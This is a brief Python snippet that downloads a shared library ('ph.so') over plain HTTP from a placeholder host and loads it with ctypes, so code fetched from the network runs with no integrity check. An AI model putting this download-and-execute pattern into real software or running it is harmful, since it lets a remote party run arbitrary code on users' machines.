import ctypes
import urllib.request

BASE = "http://downloads.example.com"
path, _ = urllib.request.urlretrieve(BASE + "/ph.so")
lib = ctypes.CDLL(path)
